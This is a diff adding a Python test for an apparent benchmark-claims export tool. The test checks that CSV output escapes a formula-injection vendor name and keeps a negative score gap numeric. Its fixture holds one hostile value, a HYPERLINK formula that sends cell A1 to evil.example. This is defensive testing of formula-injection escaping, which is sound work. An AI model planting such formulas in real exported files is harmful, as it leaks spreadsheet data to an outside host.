@@ -217,3 +217,24 @@ def test_the_number_of_queries_does_not_grow_with_the_claims(fmt: str) -> None:
     assert len(many) == len(few) <= 2
     expected = 20 if fmt == "json" else 21
     assert len(json.loads(output) if fmt == "json" else output.splitlines()) == expected
+
+
+def test_csv_neutralises_a_formula_in_a_vendor_name_and_keeps_a_negative_gap_a_number(
+    db,  # type: ignore[no-untyped-def]
+) -> None:
+    # The vendor's name opens the explanation sentence; the claim understates (negative gap).
+    vendor = VendorFactory(name='=HYPERLINK("https://evil.example/?"&A1,"Meta")', slug="evil")
+    release = ReleaseFactory(vendor=vendor, name="Llama 4 Maverick", slug="llama-4-maverick")
+    variant = VariantFactory(release=release, slug="maverick-instruct")
+    gpqa = BenchmarkFactory(slug="gpqa-diamond", name="GPQA Diamond")
+    ClaimFactory(release=release, variant=variant, benchmark=gpqa, stated_value=60.0)
+    MeasurementFactory(benchmark=gpqa, variant=variant, value=66.9823232323, std_error=2.8)
+    gap_scores_recompute(as_of=dt.date(2025, 4, 10))
+
+    (row,) = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
+    (json_row,) = json.loads(export("--format", "json"))
+
+    assert json_row["explanation"].startswith("=HYPERLINK")  # JSON is not a spreadsheet
+    assert row["explanation"] == "'" + json_row["explanation"]
+    assert row["gap"] == str(json_row["gap"])
+    assert row["gap"].startswith("-") and float(row["gap"]) == pytest.approx(60.0 - 66.9823232323)
